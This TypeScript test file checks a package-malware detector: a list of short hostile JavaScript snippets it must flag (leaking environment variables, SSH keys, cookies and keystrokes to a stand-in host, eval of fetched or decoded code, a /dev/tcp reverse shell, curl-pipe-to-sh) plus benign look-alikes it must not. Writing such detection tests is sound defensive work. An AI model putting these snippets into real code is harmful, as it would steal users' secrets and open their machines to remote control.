import assert from 'node:assert/strict'
import { test } from 'node:test'
import { analyse } from './analyse.ts'
import { PackageFile, type PackageContents } from './contents.ts'
import { readManifest } from './manifest.ts'

function kindsOf(files: string | Readonly<Record<string, string>>): Set<string> {
  const texts = typeof files === 'string' ? { 'index.js': files } : files
  const held = new Map(
    Object.entries(texts).map(([path, text]) => [path, new PackageFile(path, new TextEncoder().encode(text))]),
  )
  const contents: PackageContents = { files: held, manifest: readManifest('{}'), anomalies: [], bytes: 0 }
  return new Set(analyse(contents, [...held.values()]).behaviours.map((one) => one.kind))
}

const says: readonly (readonly [kind: string, code: string])[] = [
  ['envToNetwork', "require('https').request({ host: 'a.example' }).end(JSON.stringify(process.env))"],
  [
    'envToNetwork',
    "const { env: e } = process; const f = fetch; f('https://a.example', { body: JSON.stringify({ ...e }) })",
  ],
  [
    'envToNetwork',
    "import { request as r } from 'node:https'; const q = r('https://a.example'); q.write(Object.entries(process['en' + 'v']).join())",
  ],
  [
    'secretFileToNetwork',
    "const fs = require('fs'); fs.readFile(require('path').join(require('os').homedir(), '.ssh', 'id_rsa'), (e, d) => require('http').get('http://a.example/' + d))",
  ],
  ['hostToNetwork', "const os = require('os'); require('dns').lookup(os.hostname() + '.a.example', () => {})"],
  ['keyToNetwork', "exports.sign = function (privateKey) { new Image().src = 'https://a.example/?' + privateKey }"],
  [
    'networkToCode',
    "require('https').get('https://a.example', (r) => { let s = ''; r.on('data', (d) => { s += d }); r.on('end', () => eval(s)) })",
  ],
  ['networkToCode', "(async () => { const r = await fetch('https://a.example'); new Function(await r.text())() })()"],
  [
    'networkToCommand',
    "require('axios').get('https://a.example').then(({ data }) => require('child_process').exec(data.cmd))",
  ],
  ['decodedToCode', "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())"],
  [
    'decodedToCode',
    "const d = (h) => { let o = ''; for (let i = 0; i < h.length; i += 2) o += String.fromCharCode(parseInt(h.substr(i, 2), 16) ^ 7); return o }; Function(d('6162'))()",
  ],
  ['hiddenModule', "require('child' + '_' + 'process')"],
  ['hiddenModule', "require('ssecorp_dlihc'.split('').reverse().join(''))"],
  ['indirectAccess', "global['ev' + 'al']('1')"],
  ['indirectAccess', "module.constructor._load('fs')"],
  ['indirectAccess', "[].filter.constructor('return 1')()"],
  ['decodedToUrl', "fetch(atob('aHR0cHM6Ly9hLmV4YW1wbGUv'))"],
  ['hooksNetwork', 'const f = window.fetch; window.fetch = (...a) => f(...a)'],
  ['hooksWallet', 'window.ethereum.request = (a) => a'],
  ['hooksLoader', "require('module').prototype.require = function () {}"],
  ['reverseShell', "require('child_process').exec('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1')"],
  ['shellDownload', "const { execSync: run } = require('child_process'); run('curl http://a.example/x | sh')"],
  ['inputToNetwork', "document.addEventListener('keydown', (e) => navigator.sendBeacon('https://a.example', e.key))"],
  ['storeToNetwork', "navigator.sendBeacon('https://a.example', document.cookie)"],
  ['writesConfig', "require('fs').writeFileSync('.github/workflows/x.yml', '')"],
  ['offscreen', `a();${' '.repeat(260)}b()`],
]
for (const [kind, code] of says)
  test(`${kind}: ${code.replace(/\s+/g, ' ').slice(0, 90)}`, () =>
    assert.ok(kindsOf(code).has(kind), [...kindsOf(code)].join(', ')))

const silent: readonly (readonly [kind: string, code: string])[] = [
  ['envToNetwork', "const port = process.env.PORT; require('http').get('http://127.0.0.1:' + port)"],
  ['networkToCode', "fetch('/a').then((r) => r.json()).then((d) => render(d))"],
  ['hooksNetwork', 'window.fetch = window.fetch || polyfill'],
  ['hooksNetwork', 'function f(fetch) { fetch = 1 }'],
  ['hiddenModule', "require('./' + 'local')"],
  ['command', "const list = []; list.exec('x'); /a/.exec('b')"],
  ['indirectAccess', "const table = { a: 1 }; table['a' + 'b']"],
]
for (const [kind, code] of silent)
  test(`not ${kind}: ${code.slice(0, 90)}`, () => assert.ok(!kindsOf(code).has(kind), [...kindsOf(code)].join(', ')))

test('data is followed from one file into another', () => {
  const files = {
    'index.js': "const send = require('./lib/send'); send(process.env)",
    'lib/send.js':
      "module.exports = function (d) { require('https').request('https://a.example').end(JSON.stringify(d)) }",
  }
  assert.ok(kindsOf(files).has('envToNetwork'))
})

test('a 5 MB line and a deep nest end', () => {
  kindsOf(`var a=[${'"xxxxxxxxxxxxxxxxxxxxxxxx",'.repeat(180_000)}0];eval(a[0])`)
  kindsOf(`eval(${'('.repeat(3000)}1${')'.repeat(3000)})`)
  kindsOf(`fetch(${'a+'.repeat(20_000)}a)`)
})
